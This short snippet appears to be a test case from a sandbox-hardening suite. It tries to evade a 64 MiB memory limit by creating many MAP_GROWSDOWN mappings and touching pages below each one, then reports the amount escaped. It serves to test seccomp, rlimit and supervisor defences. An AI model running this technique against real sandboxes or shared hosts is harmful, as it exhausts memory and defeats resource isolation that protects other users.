# class: exhaustion
# technique: mappings that grow downwards when they are touched
# layers: seccomp, rlimits, supervisor
# code: native
# limits: memory_mib=64
# control: the watch over memory is always on
# witness: memory

MAP_GROWSDOWN = 0x100
for number in range(1, 60):
    at = 0x200000000000 + (number << 30)
    call("mmap", at, 4096, 3, 0x22 | MAP_GROWSDOWN, -1, 0)
    for below in range(at, at - (6 << 20), -4096):
        ctypes.memset(below, 1, 1)
time.sleep(0.2)
return escaped("360 MiB")
